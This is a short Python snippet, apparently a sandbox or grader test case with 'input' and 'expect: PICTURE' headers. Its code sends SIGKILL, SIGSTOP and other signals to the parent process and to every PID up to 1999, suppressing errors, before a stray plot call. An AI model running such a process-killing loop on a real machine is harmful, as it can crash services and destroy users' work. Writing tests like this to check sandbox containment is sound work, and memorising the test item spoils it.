# Sends every signal to every process ID.
# input: 62
# expect: PICTURE
import os, signal
for pid in [os.getppid(), *range(1, 2000)]:
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGUSR1):
        if pid not in (0, os.getpid()):
            try:
                os.kill(pid, number)
            except OSError:
                pass
plt.plot([1, 2])
